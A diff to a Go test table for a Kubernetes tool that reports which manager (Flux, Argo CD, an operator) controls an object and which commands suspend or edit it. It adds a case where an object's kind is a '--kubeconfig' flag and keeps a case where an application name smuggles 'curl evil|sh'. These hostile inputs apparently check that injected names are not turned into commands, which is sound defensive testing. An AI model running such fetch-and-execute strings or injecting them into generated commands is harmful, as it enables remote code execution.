@@ -115,8 +115,9 @@ func TestWhereAnObjectComesFrom(t *testing.T) {
 		"Flux, a HelmRelease": {missed: "you may not read helmrepository/acme in namespace shop (get helmrepositories.source.toolkit.fluxcd.io in namespace shop)", objects: flux, manager: evidence.Manager{Tool: "Flux", Name: "shop/api"}, labels: map[string]string{"helm.toolkit.fluxcd.io/name": "api", "helm.toolkit.fluxcd.io/namespace": "shop"},
 			source: []string{"Flux HelmRelease api in namespace shop", "chart api 1.4.0", "from HelmRepository acme in namespace shop"}, back: "Flux sets back what is changed here within 5m0s, its interval",
 			lasting: []string{"flux suspend helmrelease api -n shop"}, resume: []string{"flux resume helmrelease api -n shop"}},
-		"an operator's object": {above: evidence.Object{Kind: "Kafka", Name: "orders"}, source: []string{"kafka/orders makes it"}, back: "the operator of kafka/orders may set back what is changed here", lasting: []string{"kubectl edit kafka orders -n shop"}},
-		"a hostile name":       {manager: evidence.Manager{Tool: "Argo CD", Name: "x;curl evil|sh"}, source: []string{"Argo CD application x;curl evil|sh"}, back: "Argo CD sets back what is changed here with its next sync, within seconds where self-heal is on"},
+		"an operator's object":                          {above: evidence.Object{Kind: "Kafka", Name: "orders"}, source: []string{"kafka/orders makes it"}, back: "the operator of kafka/orders may set back what is changed here", lasting: []string{"kubectl edit kafka orders -n shop"}},
+		"an operator's object of a kind that is a flag": {above: evidence.Object{Kind: "--kubeconfig=/tmp/x", Name: "orders"}, source: []string{"--kubeconfig=/tmp/x/orders makes it"}, back: "the operator of --kubeconfig=/tmp/x/orders may set back what is changed here"},
+		"a hostile name":                                {manager: evidence.Manager{Tool: "Argo CD", Name: "x;curl evil|sh"}, source: []string{"Argo CD application x;curl evil|sh"}, back: "Argo CD sets back what is changed here with its next sync, within seconds where self-heal is on"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			live := &unstructured.Unstructured{Object: map[string]any{"kind": "Deployment"}}
